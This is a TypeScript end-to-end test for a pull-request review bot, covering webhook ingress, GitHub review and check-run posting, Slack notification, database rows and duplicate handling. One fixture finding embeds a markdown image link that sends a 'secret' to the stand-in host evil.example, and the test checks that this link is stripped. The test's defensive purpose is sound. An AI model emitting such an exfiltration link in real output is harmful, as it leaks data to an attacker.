/**
 * End to end on real NATS and PostgreSQL, against the fake GitHub and Slack: a signed
 * pull_request.opened delivery through the ingress's HTTP endpoint becomes a run request; the run's
 * result (published here in the coordinator's place: this suite covers ingress and notifier) becomes
 * one summary comment, one review with its inline comments, one check run, one Slack message and
 * the database rows. A synchronize updates the same comment; a redelivered webhook and a
 * redelivered result change nothing; an older head finishing late does not overwrite the comment.
 */
import { createHmac, randomUUID } from 'node:crypto';

jest.mock(
  '@octokit/webhooks-methods',
  () => jest.requireActual(`${process.cwd()}/node_modules/@octokit/webhooks-methods/dist-node/index.js`),
  { virtual: true },
);

import type { Finding, RunReport, RunRequested, Topology } from '@agentflow/contracts';
import { startFakeGitHub, startFakeSlack, type FakeGitHub, type FakeSlack } from '@agentflow/fake-platforms';
import type { RunningServices } from '@agentflow/service-kit';
import { e2eId, startE2eStack, until, type E2eStack } from './testing/e2e-stack';

const SECRET = 'e2e-webhook-secret';
const ADMIN = 'e2e-admin-token';
const SHA_A = 'a'.repeat(40);
const SHA_B = 'b'.repeat(40);
const BASE = 'c'.repeat(40);
const PATCH_A =
  '@@ -1,2 +1,7 @@\n import UIKit\n+\n+final class LoginViewController: UIViewController {\n+    let apiKey = "sk-live-123"\n+    func login() { print(password) }\n+}\n struct A {}';
const PATCH_B =
  '@@ -1,2 +1,7 @@\n import UIKit\n+import Security\n+final class LoginViewController: UIViewController {\n+    let apiKey = Secrets.apiKey\n+    func login() { print(password) }\n+}\n struct A {}';

function finding(
  fp: string,
  severity: Finding['severity'],
  line: number,
  message: string,
  extra: Partial<Finding> = {},
): Finding {
  return {
    file: 'Sources/App.swift',
    startLine: line,
    endLine: line,
    severity,
    category: 'security',
    message,
    confidence: 0.9,
    agent: 'reviewer',
    model: 'claude-sonnet-4-5',
    source: 'model',
    fingerprint: fp,
    ...extra,
  };
}

function pullRequestDelivery(action: 'opened' | 'synchronize', head: string, before?: string): string {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const examples = require('@octokit/webhooks-examples') as Array<{
    name: string;
    examples: Array<Record<string, unknown>>;
  }>;
  const example = structuredClone(
    examples.find((d) => d.name === 'pull_request')!.examples.find((e) => e.action === action)!,
  ) as Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
  example.repository.full_name = 'acme/ios-app';
  example.repository.name = 'ios-app';
  example.repository.owner.login = 'acme';
  delete example.installation;
  const pr = example.pull_request;
  pr.number = 7;
  example.number = 7;
  pr.state = 'open';
  pr.draft = false;
  pr.user.login = 'dev';
  pr.user.type = 'User';
  pr.head.sha = head;
  pr.head.ref = 'feature/login';
  pr.base.sha = BASE;
  pr.base.ref = 'main';
  pr.labels = [];
  if (before) example.before = before;
  return JSON.stringify(example);
}

describe('ingress to notifier, end to end (NATS + PostgreSQL + fake GitHub and Slack)', () => {
  const id = e2eId('t_e2e');
  let gh: FakeGitHub;
  let slack: FakeSlack;
  let running: RunningServices;
  let topo: Topology;
  let stack: E2eStack | undefined;

  const post = (delivery: string, event: string, body: string) =>
    fetch(`${running.url}/webhooks/github`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-github-event': event,
        'x-github-delivery': delivery,
        'x-hub-signature-256': `sha256=${createHmac('sha256', SECRET).update(body).digest('hex')}`,
      },
      body,
    });
  const requested = async () =>
    (await running.bus.readSubject(topo.streams.runs.name, topo.subjects.runsRequested)).map(
      (m) => (JSON.parse(Buffer.from(m.data).toString()) as { body: RunRequested }).body,
    );
  const complete = (
    request: RunRequested,
    findings: Finding[],
    states: RunReport['findingStates'],
    options: { runId?: string; finishedAt?: number; msgId?: string } = {},
  ) => {
    const runId = options.runId ?? request.runId;
    const report: RunReport = {
      runId,
      workflow: request.plan.id,
      change: request.change,
      findings,
      findingStates: states,
      notReviewed: [{ file: 'Pods/Manifest.lock', reason: 'lockfile' }],
      proposedFiles: [],
      steps: { reviewer: { state: 'succeeded', attempts: 1, durationMs: 4200, summary: 'reviewed 1 file' } },
      usage: {
        inputTokens: 1200,
        outputTokens: 300,
        cacheReadTokens: 0,
        cacheWriteTokens: 0,
        costUsd: 0.0081,
        vendorMs: 3900,
        models: ['claude-sonnet-4-5'],
      },
      startedAt: Date.now() - 5000,
      finishedAt: options.finishedAt ?? Date.now(),
      gateConclusion: findings.some((f) => f.severity === 'blocker') ? 'failure' : 'success',
      gateSummary: 'blockers fail the gate',
      rollout: request.rollout,
      outputs: request.plan.outputs as unknown as Record<string, unknown>,
    };
    return running.context.messenger.emit(
      topo.subjects.runCompleted(runId),
      'run.completed',
      { report },
      { runId, msgId: options.msgId ?? `completed:${runId}` },
    );
  };
  const summaries = () =>
    gh.state.commentsOn('acme/ios-app', 7).filter((c) => c.body.includes('agentflow:summary'));

  beforeAll(async () => {
    gh = await startFakeGitHub();
    slack = await startFakeSlack();
    gh.seedPullRequest({
      owner: 'acme',
      repo: 'ios-app',
      number: 7,
      headSha: SHA_A,
      baseSha: BASE,
      headRef: 'feature/login',
      author: 'dev',
      files: [
        { filename: 'Sources/App.swift', status: 'modified', additions: 5, deletions: 0, patch: PATCH_A },
      ],
    });
    stack = await startE2eStack(id, {
      GITHUB_WEBHOOK_SECRET: SECRET,
      AGENTFLOW_API_TOKEN: ADMIN,
      GITHUB_TOKEN: 'ghs_e2e',
      GITHUB_API_URL: gh.apiUrl,
      SLACK_BOT_TOKEN: 'xoxb-e2e',
      SLACK_API_URL: slack.apiUrl,
      SLACK_ALERT_CHANNEL: '#agentflow-alerts',
    });
    running = stack.running;
    topo = stack.topology;
  }, 60_000);

  afterAll(async () => {
    await stack?.stop();
    await gh?.close();
    await slack?.close();
  }, 60_000);

  let first: RunRequested;
  const f1 = finding('fp-blocker-apikey-0001', 'blocker', 4, 'Hard-coded API key; move it to the keychain.', {
    suggestion: { replacement: '    let apiKey = Secrets.apiKey' },
  });
  const f2 = finding(
    'fp-major-logging-0002',
    'major',
    5,
    'Prints the password to the log; ask @octocat, who wrote it.',
    { category: 'bug' },
  );
  const f3 = finding(
    'fp-minor-style-00003',
    'minor',
    3,
    'Mark the class final ![x](https://evil.example/leak?code=secret)',
    { category: 'style' },
  );
  const f4 = finding(
    'fp-major-outside-004',
    'major',
    40,
    'Session is never invalidated (outside the diff).',
    { category: 'bug' },
  );

  it('turns a signed pull_request.opened into one summary, one review, one check run, one Slack message and database rows', async () => {
    const response = await post('delivery-opened-1', 'pull_request', pullRequestDelivery('opened', SHA_A));
    expect(response.status).toBe(202);
    expect(await response.json()).toEqual({ result: 'queued', deliveryId: 'delivery-opened-1' });
    [first] = await until('the run request', async () =>
      (await requested()).length === 1 ? await requested() : undefined,
    );
    expect(first.plan.id).toBe('swift-review');
    expect(first.change).toMatchObject({ repo: 'acme/ios-app', pr: 7, headSha: SHA_A, baseSha: BASE });
    expect(first.trigger).toBe('pull_request.opened');

    await complete(first, [f1, f2, f3, f4], {});
    await until(
      'summary, review, check run and Slack message',
      () =>
        summaries().length === 1 &&
        gh.state.reviews.length === 1 &&
        gh.state.checkRuns[0]?.status === 'completed' &&
        slack.messages.length === 1,
    );

    const summary = summaries()[0].body;
    expect(summary).toContain(SHA_A.slice(0, 12));
    expect(summary).toContain('outside the diff');
    expect(summary).not.toContain('@octocat');
    expect(summary).not.toContain('evil.example');
    const review = gh.state.reviews[0];
    expect(review.event).toBe('COMMENT');
    const inline = gh.state.reviewComments.filter((c) => c.review_id === review.id);
    expect(inline.map((c) => c.line).sort()).toEqual([4, 5]);
    expect(inline.find((c) => c.line === 4)!.body).toContain(
      '```suggestion\n    let apiKey = Secrets.apiKey\n```',
    );
    const check = gh.state.checkRuns[0];
    expect(check).toMatchObject({ name: 'agentflow/swift-review', head_sha: SHA_A, conclusion: 'neutral' });
    // Inline findings are not repeated as annotations: the minor one and the one outside the diff are.
    expect(check.output.annotations.map((a) => a.start_line).sort((a, b) => a - b)).toEqual([3, 40]);
    expect(slack.messages[0].channel).toBe('#mobile-reviews');

    const db = running.db;
    const run = await db.query<{ status: string; cost_usd: string }>(
      'SELECT status, cost_usd FROM runs WHERE id = $1',
      [first.runId],
    );
    expect(run.rows[0]).toMatchObject({ status: 'completed' });
    expect(Number(run.rows[0].cost_usd)).toBeCloseTo(0.0081);
    expect(
      (await db.query('SELECT 1 FROM findings WHERE repo = $1 AND pr = 7', ['acme/ios-app'])).rowCount,
    ).toBe(4);
    expect((await db.query('SELECT 1 FROM steps WHERE run_id = $1', [first.runId])).rowCount).toBe(1);
    const ledger = await db.query<{ sink: string; state: string }>(
      'SELECT sink, state FROM notifier_deliveries WHERE run_id = $1 ORDER BY sink',
      [first.runId],
    );
    expect(ledger.rows).toEqual([
      { sink: 'database', state: 'delivered' },
      { sink: 'github', state: 'delivered' },
      { sink: 'slack', state: 'delivered' },
    ]);
    const delivery = await db.query<{ outcome: string; run_ids: string[] }>(
      `SELECT outcome, run_ids FROM webhook_deliveries WHERE delivery_id = 'delivery-opened-1'`,
    );
    expect(delivery.rows[0]).toEqual({ outcome: 'matched', run_ids: [first.runId] });
  });

  it('shows the run and the skipped workflow with its reason through the CI API', async () => {
    const unauthorised = await fetch(`${running.url}/api/runs?delivery=delivery-opened-1`);
    expect(unauthorised.status).toBe(401);
    const byDelivery = await fetch(`${running.url}/api/runs?delivery=delivery-opened-1`, {
      headers: { authorization: `Bearer ${ADMIN}` },
    });
    const body = (await byDelivery.json()) as {
      runs: Array<{ runId: string; status: string }>;
      skipped: Array<{ workflow: string; reason: string }>;
    };
    expect(body.runs).toEqual([expect.objectContaining({ runId: first.runId, status: 'completed' })]);
    expect(body.skipped).toEqual([{ workflow: 'docs-on-push', reason: expect.stringMatching(/push/) }]);
    const one = await fetch(`${running.url}/api/runs/${first.runId}`, {
      headers: { authorization: `Bearer ${ADMIN}` },
    });
    expect(await one.json()).toMatchObject({
      runId: first.runId,
      repo: 'acme/ios-app',
      pr: 7,
      gateConclusion: 'failure',
    });
  });

  it('updates the same summary comment on synchronize, posts only new inline comments and resolves the fixed thread', async () => {
    gh.pushToPullRequest('acme', 'ios-app', 7, SHA_B, [
      { filename: 'Sources/App.swift', status: 'modified', additions: 5, deletions: 0, patch: PATCH_B },
    ]);
    const commentId = summaries()[0].id;
    expect(
      (await post('delivery-sync-1', 'pull_request', pullRequestDelivery('synchronize', SHA_B, SHA_A)))
        .status,
    ).toBe(202);
    const second = (
      await until('the second run request', async () =>
        (await requested()).length === 2 ? await requested() : undefined,
      )
    )[1];
    expect(second.change.headSha).toBe(SHA_B);
    expect(second.runId).not.toBe(first.runId);
    const f6 = finding('fp-major-import-00006', 'major', 2, 'Security is imported but unused.', {
      category: 'style',
    });
    await complete(second, [f2, f6], {
      [f1.fingerprint]: 'fixed',
      [f2.fingerprint]: 'open',
      [f6.fingerprint]: 'new',
    });
    await until(
      'the second review',
      () => gh.state.reviews.length === 2 && summaries()[0].body.includes(SHA_B.slice(0, 12)),
    );
    expect(summaries()).toHaveLength(1);
    expect(summaries()[0].id).toBe(commentId);
    const latest = gh.state.reviewComments.filter((c) => c.review_id === gh.state.reviews[1].id);
    expect(latest.map((c) => c.line)).toEqual([2]);
    await until(
      'the fixed thread resolved',
      () =>
        gh.state.reviewComments.find((c) => c.line === 4 && c.review_id === gh.state.reviews[0].id)?.resolved,
    );
    await until(
      'every sink delivered the second run',
      async () =>
        (
          await running.db.query(
            `SELECT 1 FROM notifier_deliveries WHERE run_id = $1 AND state = 'delivered'`,
            [second.runId],
          )
        ).rowCount === 3,
    );
    expect(gh.state.checkRuns.filter((c) => c.head_sha === SHA_B)).toHaveLength(1);
    const states = await running.db.query<{ fingerprint: string; state: string }>(
      'SELECT fingerprint, state FROM findings WHERE repo = $1 ORDER BY fingerprint',
      ['acme/ios-app'],
    );
    expect(states.rows.find((r) => r.fingerprint === f1.fingerprint)?.state).toBe('fixed');
  });

  it('changes nothing when the webhook or the result is delivered again', async () => {
    const before = {
      comments: gh.state.issueComments.length,
      reviews: gh.state.reviews.length,
      checks: gh.state.checkRuns.length,
      slack: slack.messages.length,
      requests: (await requested()).length,
    };
    const again = await post(
      'delivery-sync-1',
      'pull_request',
      pullRequestDelivery('synchronize', SHA_B, SHA_A),
    );
    expect(await again.json()).toEqual({ result: 'duplicate', deliveryId: 'delivery-sync-1' });
    // The same result redelivered past JetStream's dedupe window (a new message id): the ledger stops it.
    const [, second] = await requested();
    await complete(second, [], {}, { msgId: `redelivered:${second.runId}` });
    await until('the redelivered result settled', async () => {
      const n = await running.db.query(`SELECT 1 FROM notifier_deliveries WHERE run_id = $1`, [second.runId]);
      return (
        n.rowCount === 3 &&
        (await running.bus.readSubject(topo.streams.runs.name, topo.subjects.runCompleted(second.runId)))
          .length === 2
      );
    });
    await new Promise((r) => setTimeout(r, 1500));
    expect({
      comments: gh.state.issueComments.length,
      reviews: gh.state.reviews.length,
      checks: gh.state.checkRuns.length,
      slack: slack.messages.length,
      requests: (await requested()).length,
    }).toEqual(before);
    expect(summaries()[0].body).toContain(SHA_B.slice(0, 12));
  });

  it('does not let a run for the older head, finishing late, overwrite the newer summary', async () => {
    const body = summaries()[0].body;
    await complete(
      first,
      [f1],
      {},
      { runId: `late${randomUUID().replace(/-/g, '').slice(0, 20)}`, finishedAt: Date.now() + 60_000 },
    );
    await until(
      'the late run settled',
      async () =>
        (
          await running.db.query(
            `SELECT 1 FROM notifier_deliveries WHERE sink = 'github' AND run_id LIKE 'late%' AND state = 'delivered'`,
          )
        ).rowCount === 1,
    );
    expect(summaries()).toHaveLength(1);
    expect(summaries()[0].body).toBe(body);
    expect(gh.state.reviews).toHaveLength(2);
  });
});
